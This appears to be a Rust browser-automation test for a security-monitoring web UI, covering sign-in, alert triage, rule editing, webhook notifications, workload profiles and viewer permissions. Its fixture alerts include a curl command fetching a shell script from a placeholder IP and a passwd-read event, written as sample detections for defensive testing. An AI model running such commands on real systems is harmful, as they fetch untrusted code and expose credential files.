//! The web UI in headless Chromium (Debian `chromium` + `chromium-driver`), driven over WebDriver with
//! fantoccini: sign-in, triage of a signal end to end, a custom rule with a validation error then saved,
//! a backend rule file with an inline error, fixed, tested over recent matches and stored, a notification
//! channel's test send to a loopback receiver, a security profile's page, and a viewer who
//! sees no admin actions and is refused on admin posts. Screenshots go to `target/ui-screenshots/`.

mod common;

use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{mk_match, TestDb, TestServer};
use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::json;

struct Driver(Child);

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

async fn start_browser() -> (Driver, Client) {
    let port = common::free_port();
    let child = Command::new("chromedriver")
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("chromedriver (Debian chromium-driver) is installed: scripts/deps.sh");
    let driver = Driver(child);
    let deadline = Instant::now() + Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "chromedriver did not listen");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let mut caps = serde_json::Map::new();
    caps.insert(
        "goog:chromeOptions".into(),
        json!({"args": ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                        "--window-size=1400,1000"]}),
    );
    let client = ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
        .capabilities(caps)
        .connect(&format!("http://127.0.0.1:{port}"))
        .await
        .expect("a Chromium session");
    (driver, client)
}

fn shots_dir() -> std::path::PathBuf {
    let d = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/ui-screenshots");
    std::fs::create_dir_all(&d).unwrap();
    d
}

async fn shot(c: &Client, name: &str) {
    let png = c.screenshot().await.unwrap();
    assert!(png.starts_with(b"\x89PNG"), "a PNG");
    std::fs::write(shots_dir().join(format!("{name}.png")), png).unwrap();
}

async fn text(c: &Client, css: &str) -> String {
    c.wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("{css}: {e}"))
        .text()
        .await
        .unwrap()
}

async fn fill(c: &Client, css: &str, value: &str) {
    let e = c
        .find(Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("{css}: {e}"));
    e.clear().await.unwrap();
    e.send_keys(value).await.unwrap();
}

async fn click(c: &Client, css: &str) {
    c.find(Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("{css}: {e}"))
        .click()
        .await
        .unwrap();
}

/// Polls the page until `css`'s text contains `want`.
async fn wait_text(c: &Client, css: &str, want: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let got = match c.find(Locator::Css(css)).await {
            Ok(e) => e.text().await.unwrap_or_default(),
            Err(_) => String::new(),
        };
        if got.contains(want) {
            return got;
        }
        assert!(
            Instant::now() < deadline,
            "{css} never showed {want:?}; last {got:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn login(c: &Client, base: &str, user: &str, password: &str) {
    c.goto(&format!("{base}/ui/login")).await.unwrap();
    fill(c, "#username", user).await;
    fill(c, "#password", password).await;
    click(c, "#sign-in").await;
}

/// A loopback webhook receiver: records each request body.
async fn receiver() -> (String, Arc<Mutex<Vec<String>>>) {
    let got: Arc<Mutex<Vec<String>>> = Default::default();
    let seen = got.clone();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let app = axum::Router::new().fallback(move |body: String| {
        let seen = seen.clone();
        async move {
            seen.lock().unwrap().push(body);
            "ok"
        }
    });
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    (url, got)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn web_ui_in_chromium() {
    let db = TestDb::sqlite();
    let s = TestServer::start_with(common::config_with_loopback_receivers(&db.url())).await;
    let agent = s.enroll("web-1").await;
    let now = rampart_server::storage::now_ns();
    let mut m1 = mk_match(
        "curl_in_container",
        "e1",
        now - 5_000_000_000,
        "web-1",
        Some("c1"),
        4242,
        "/usr/bin/curl",
    );
    m1["rule"]["description"] = json!("curl ran in a web container");
    m1["process"]["args"] = json!("-s http://198.51.100.7/x.sh");
    let m2 = mk_match(
        "passwd_read",
        "e2",
        now - 4_000_000_000,
        "db-1",
        None,
        77,
        "/usr/bin/cat",
    );
    let (st, v) = s.ingest(&agent, &[m1, m2]).await;
    assert_eq!(st, 200, "{v}");
    // The rule as the server's configuration defines it: its remediation shows on the signal.
    let rule = json!({"expression": "exec.file.name == \"curl\"", "description": "curl ran in a web container",
        "severity": "high", "remediation": "Find out who ran curl and why."});
    let (st, v) = s
        .call(
            "PUT",
            "/api/v1/custom-rules/curl_in_container",
            Some(&s.admin),
            Some(rule),
        )
        .await;
    assert!(st < 300, "{v}");
    s.add_user("vera", "viewer").await;
    let (driver, c) = start_browser().await;
    let base = s.base.clone();

    // Sign-in: a wrong password is refused, the right one opens the explorer.
    login(&c, &base, "admin", "wrong-password-here").await;
    assert_eq!(
        text(&c, "#login-error").await,
        "Wrong username or password."
    );
    shot(&c, "01-login-refused").await;
    login(&c, &base, "admin", "admin-password-123").await;
    wait_text(&c, "#whoami", "admin").await;
    assert_eq!(c.current_url().await.unwrap().path(), "/ui/signals");
    shot(&c, "02-explorer").await;

    // Triage: filter, open the signal, set status and assignee, comment, see the history.
    fill(&c, "#q", "host:web-1 curl").await;
    click(&c, "#search").await;
    wait_text(&c, "#total", "1").await;
    let rows = c
        .find_all(Locator::Css("#signals .signal-link"))
        .await
        .unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].text().await.unwrap(), "curl ran in a web container");
    shot(&c, "03-explorer-filtered").await;
    // A click opens the signal in the side panel (the explorer stays); the panel links to the full page.
    rows[0].click().await.unwrap();
    wait_text(
        &c,
        "#side-panel #signal-title",
        "curl ran in a web container",
    )
    .await;
    assert_eq!(c.current_url().await.unwrap().path(), "/ui/signals");
    assert_eq!(
        text(&c, "#side-panel #remediation").await,
        "Find out who ran curl and why."
    );
    let tree = text(&c, "#side-panel #process-tree").await;
    assert!(
        tree.contains("/usr/sbin/sshd") && tree.contains("/usr/bin/curl"),
        "{tree}"
    );
    assert!(text(&c, "#side-panel #event-json")
        .await
        .contains("198.51.100.7"));
    assert!(text(&c, "#side-panel").await.contains("Triage"));
    let selected = c
        .find_all(Locator::Css("#signals tr.selected"))
        .await
        .unwrap();
    assert_eq!(selected.len(), 1, "the opened row is marked");
    shot(&c, "03b-side-panel").await;
    click(&c, "#panel-close").await;
    assert!(c
        .find(Locator::Css("#side-panel"))
        .await
        .unwrap()
        .attr("hidden")
        .await
        .unwrap()
        .is_some());
    rows[0].click().await.unwrap();
    wait_text(&c, "#side-panel #signal-title", "curl").await;
    click(&c, "#panel-full").await;
    wait_text(&c, "h1 #signal-title", "curl ran in a web container").await;
    assert!(c
        .current_url()
        .await
        .unwrap()
        .path()
        .starts_with("/ui/signals/"));
    assert_eq!(
        text(&c, "#remediation").await,
        "Find out who ran curl and why."
    );
    c.find(Locator::Css("#triage-state"))
        .await
        .unwrap()
        .select_by_value("under_review")
        .await
        .unwrap();
    c.find(Locator::Css("#triage-assignee"))
        .await
        .unwrap()
        .select_by_label("admin")
        .await
        .unwrap();
    click(&c, "#triage-save").await;
    wait_text(&c, "#signal-state", "under_review").await;
    assert_eq!(text(&c, "#signal-assignee").await, "admin");
    fill(
        &c,
        "#comment-body",
        "Checked with the web team: a deploy script.",
    )
    .await;
    click(&c, "#comment-save").await;
    wait_text(
        &c,
        "#comments",
        "Checked with the web team: a deploy script.",
    )
    .await;
    let history = text(&c, "#history").await;
    assert!(
        history.contains("set state from open to under_review"),
        "{history}"
    );
    assert!(history.contains("set assignee to admin"), "{history}");
    shot(&c, "04-signal-triaged").await;

    // A custom rule: a validation error as you type, then a valid rule tested and saved.
    c.goto(&format!("{base}/ui/rules/custom/new"))
        .await
        .unwrap();
    fill(&c, "#rule-id", "ui_curl_rule").await;
    fill(&c, "#rule-expression", "exec.file.path == ").await;
    let err = wait_text(&c, "#validation .problem", "expected a value").await;
    // The position is the expression's own: line 1, past `exec.file.path ==`.
    assert!(err.starts_with("line 1, column "), "{err}");
    let col: usize = err["line 1, column ".len()..]
        .split(':')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!((17..=19).contains(&col), "{err}");
    shot(&c, "05-rule-invalid").await;
    fill(
        &c,
        "#rule-expression",
        "exec.file.path == \"/usr/bin/curl\"",
    )
    .await;
    wait_text(&c, "#validation", "compiles").await;
    click(&c, "#rule-test").await;
    let tested = wait_text(&c, "#test-result", "most recent events match").await;
    assert!(tested.starts_with("1 of the 2"), "{tested}");
    fill(&c, "#rule-description", "curl ran").await;
    shot(&c, "06-rule-valid-tested").await;
    click(&c, "#rule-save").await;
    wait_text(&c, "#rules", "ui_curl_rule").await;
    assert_eq!(c.current_url().await.unwrap().path(), "/ui/rules");
    let (_, cfg) = s
        .call(
            "GET",
            "/api/v1/custom-rules/ui_curl_rule",
            Some(&s.admin),
            None,
        )
        .await;
    assert_eq!(
        cfg["rule"]["expression"],
        "exec.file.path == \"/usr/bin/curl\""
    );
    shot(&c, "07-rules").await;

    // A backend rule file: an error inline as you type (naming the rule and its line), fixed, tested over
    // the recent matches (the group that would fire, linked to its agent signal), then stored.
    let rule_file = |cond: &str| {
        format!(
            "rules:\n  - id: ui_curl_burst\n    name: curl on a host\n    method: threshold\n    queries:\n      \
             a: {{rule_ids: [curl_in_container]}}\n    group_by: [host]\n    window: 10m\n    cases:\n      \
             - {{if: \"{cond}\", severity: low}}\n"
        )
    };
    c.goto(&format!("{base}/ui/backend-rules/new"))
        .await
        .unwrap();
    wait_text(&c, "#backend-validation", "compiles: many_shells").await;
    fill(&c, "#backend-yaml", &rule_file("b > 0")).await;
    let err = wait_text(&c, "#backend-validation .problem", "no query named b").await;
    assert_eq!(
        err,
        "rule ui_curl_burst (line 2): cases[0].if: no query named b"
    );
    shot(&c, "07b-backend-rule-invalid").await;
    fill(&c, "#backend-yaml", &rule_file("a > 0")).await;
    wait_text(&c, "#backend-validation", "compiles: ui_curl_burst").await;
    click(&c, "#backend-test").await;
    let tested = wait_text(&c, "#backend-test-result", "would raise a signal").await;
    assert!(tested.contains("Replayed 2 stored matches"), "{tested}");
    assert!(
        tested.contains("1 match hit its queries in 1 group; 1 of them would raise a signal"),
        "{tested}"
    );
    assert_eq!(
        text(&c, "#backend-test-result tr.dry-group td.mono").await,
        "event.hostname=web-1"
    );
    let example = c
        .find(Locator::Css("#backend-test-result tr.dry-group a.example"))
        .await
        .unwrap();
    assert!(example
        .text()
        .await
        .unwrap()
        .starts_with("curl_in_container at "));
    let href = example.attr("href").await.unwrap().unwrap();
    assert!(href.starts_with("/ui/signals/"), "{href}");
    c.execute(
        "document.getElementById('backend-test-result').scrollIntoView()",
        vec![],
    )
    .await
    .unwrap();
    shot(&c, "07c-backend-rule-tested").await;
    click(&c, "#backend-save").await;
    wait_text(&c, "#rules", "ui_curl_burst").await;
    let (st, v) = s
        .call(
            "GET",
            "/api/v1/backend-rules/ui_curl_burst",
            Some(&s.admin),
            None,
        )
        .await;
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["rule"]["spec"]["cases"][0]["if"], "a > 0");
    assert_eq!(
        s.count("signals").await,
        2,
        "testing stored no backend signal"
    );
    shot(&c, "07d-backend-rule-saved").await;

    // A notification channel, created in the UI, and its test send reaching a loopback receiver.
    let (hook, got) = receiver().await;
    c.goto(&format!("{base}/ui/notifications/channels/new"))
        .await
        .unwrap();
    fill(&c, "#channel-name", "soc-hook").await;
    c.find(Locator::Css("#channel-kind"))
        .await
        .unwrap()
        .select_by_value("webhook")
        .await
        .unwrap();
    fill(&c, "#channel-config", &json!({"url": hook}).to_string()).await;
    click(&c, "#channel-save").await;
    wait_text(&c, "#channels", "soc-hook").await;
    click(&c, "tr[data-channel='soc-hook'] .test-send").await;
    let notice = wait_text(&c, "#notice", "delivered").await;
    assert!(
        notice.contains("Test message delivered to soc-hook"),
        "{notice}"
    );
    let bodies = got.lock().unwrap().clone();
    assert_eq!(bodies.len(), 1, "the receiver got the test message");
    assert!(
        bodies[0].contains("rampart_test_notification"),
        "{}",
        bodies[0]
    );
    shot(&c, "08-notification-test").await;

    // The admin's audit tab lists the channel just created and its test send, by this user, from loopback.
    click(&c, "#nav-audit").await;
    let log = wait_text(&c, "#audit", "channel.test").await;
    for want in ["channel.create", "(soc-hook)", "127.0.0.1", "admin"] {
        assert!(log.contains(want), "{want} not in {log}");
    }
    shot(&c, "08b-audit-log").await;

    // A security profile from two snapshots: behaviours and their commonality.
    s.report_workloads(&agent, &[("c1", "nginx", "1.25"), ("c2", "nginx", "1.25")])
        .await;
    for (i, extra) in [(1, true), (2, false)] {
        let mut behaviors = vec![
            json!({"kind": "process", "process": "/usr/sbin/nginx", "detail": "", "count": 1}),
            json!({"kind": "file", "process": "/usr/sbin/nginx", "detail": "read:/etc/nginx/nginx.conf", "count": 3}),
        ];
        if extra {
            behaviors.push(json!({"kind": "connect", "process": "/usr/sbin/nginx > /bin/sh", "detail": "10.0.0.9:5432", "count": 1}));
        }
        let snap = json!({"id": format!("s{i}"), "workload": {"kind": "container", "id": format!("c{i}"), "image_name": "nginx", "image_tag": "1.25"},
            "started_at": 1, "ended_at": 2, "events": 5, "dropped": 0, "behaviors": behaviors});
        let (st, v) = s
            .agent_call(&agent, "POST", "/api/v1/agents/snapshots", snap)
            .await;
        assert_eq!(st, 200, "{v}");
    }
    c.goto(&format!("{base}/ui/profiles")).await.unwrap();
    wait_text(&c, ".image-group", "nginx").await;
    click(&c, ".profile-link").await;
    assert_eq!(text(&c, "#profile-snapshots").await, "2");
    let graph = text(&c, "#process-graph").await;
    assert!(
        graph.contains("nginx") && graph.contains("/bin/sh"),
        "{graph}"
    );
    assert!(graph.contains("read:/etc/nginx/nginx.conf"), "{graph}");
    let shares: Vec<String> = {
        let mut v = Vec::new();
        for e in c.find_all(Locator::Css(".behavior")).await.unwrap() {
            v.push(e.text().await.unwrap());
        }
        v
    };
    assert!(
        shares
            .iter()
            .any(|t| t.contains("read:/etc/nginx/nginx.conf") && t.contains("100%")),
        "{shares:?}"
    );
    assert!(
        shares
            .iter()
            .any(|t| t.contains("10.0.0.9:5432") && t.contains("50%")),
        "{shares:?}"
    );
    shot(&c, "09-profile").await;

    // A viewer: no triage or admin forms, and admin posts are refused.
    click(&c, "#logout").await;
    login(&c, &base, "vera", "long-enough-password").await;
    wait_text(&c, "#whoami", "vera").await;
    c.goto(&format!("{base}/ui/signals/1")).await.unwrap();
    wait_text(&c, "#signal-title", "").await;
    assert!(c.find(Locator::Css("#triage-form")).await.is_err());
    assert!(c.find(Locator::Css("#comment-form")).await.is_err());
    c.goto(&format!("{base}/ui/rules")).await.unwrap();
    wait_text(&c, "#rules", "ui_curl_rule").await;
    assert!(c.find(Locator::Css("#new-rule")).await.is_err());
    assert!(c
        .find(Locator::Css("form[action$='/toggle']"))
        .await
        .is_err());
    shot(&c, "10-viewer-rules").await;
    let status = c
        .execute_async(
            "const done = arguments[arguments.length - 1];
             fetch('/ui/rules/validate', {method: 'POST', headers: {'content-type': 'application/json',
                   'x-csrf-token': document.body.dataset.csrf}, body: '{\"expression\": \"1 == 1\"}'})
               .then(r => done(r.status));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(status, json!(403));
    c.goto(&format!("{base}/ui/rules/custom/new"))
        .await
        .unwrap();
    assert!(text(&c, "#error-message")
        .await
        .contains("this needs role admin"));
    c.close().await.unwrap();
    drop(driver);
    s.stop().await;
}
